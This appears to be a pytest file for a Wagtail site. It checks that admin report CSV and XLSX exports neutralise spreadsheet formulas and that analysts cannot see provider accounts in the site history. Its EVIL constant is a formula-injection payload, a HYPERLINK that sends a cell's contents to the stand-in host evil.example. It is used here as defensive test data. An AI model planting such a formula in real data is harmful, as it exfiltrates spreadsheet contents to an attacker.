"""Wagtail's own admin reports (Reports menu): their spreadsheet exports cannot run a
formula a provider typed into their listing, and the site history (who did what, by
account) is for staff who work on pages, not for the workforce analysts."""

import csv
import io

import openpyxl
import pytest
from django.utils import timezone

from providers.models import ProviderPage
from tests import builders

EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"Open")'
REPORTS = [
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/reports/locked/",
    "/admin/reports/workflow/",
    "/admin/reports/workflow_tasks/",
]


@pytest.fixture
def moderator(db):
    return builders.build_user(groups=["Moderators"])


@pytest.fixture
def evil_listing(directory, thurrock_postcodes, moderator):
    """A listing a provider titled with a formula: published (site history, aging pages),
    locked by a moderator (locked pages) and with changes awaiting approval (workflows)."""
    provider, page = builders.build_provider_account(directory=directory, title=EVIL)
    page.summary = "Changed."
    page.save_revision(user=provider, log_action=True)
    page.get_workflow().start(page, provider)
    ProviderPage.objects.filter(pk=page.pk).update(
        locked=True, locked_by=moderator, locked_at=timezone.now()
    )
    return page


def cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("url", REPORTS)
def test_report_csv_exports_neutralise_formulas(client, moderator, evil_listing, url):
    client.force_login(moderator)

    exported = cells(client.get(url, {"export": "csv"}))

    assert "'" + EVIL in exported
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in exported)


def test_report_xlsx_exports_neutralise_formulas(client, moderator, evil_listing):
    client.force_login(moderator)

    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + EVIL in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


@pytest.fixture
def provider_history(directory, thurrock_postcodes):
    """A provider account that has edited its listing: a line in the site history."""
    provider, page = builders.build_provider_account(
        directory=directory, email="zoe.provider@example.org"
    )
    page.summary = "Changed."
    page.save_revision(user=provider, log_action=True)
    return provider


def test_the_site_history_never_lists_provider_accounts_to_an_analyst(client, provider_history):
    client.force_login(builders.build_user(groups=["Analysts"]))

    menu = client.get("/admin/").content.decode()
    report = client.get("/admin/reports/site-history/")
    results = client.get("/admin/reports/site-history/results/")

    assert "/admin/reports/site-history/" not in menu
    for response in (report, results):
        assert "zoe.provider@example.org" not in response.content.decode()
    export = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert "zoe.provider" not in b"".join(export.streaming_content).decode()


def test_moderators_still_see_provider_accounts_in_the_site_history_filter(
    client, moderator, provider_history
):
    client.force_login(moderator)

    menu = client.get("/admin/").content.decode()
    report = client.get("/admin/reports/site-history/")

    assert "/admin/reports/site-history/" in menu
    assert report.status_code == 200
    assert "zoe.provider@example.org" in report.content.decode()  # the User filter
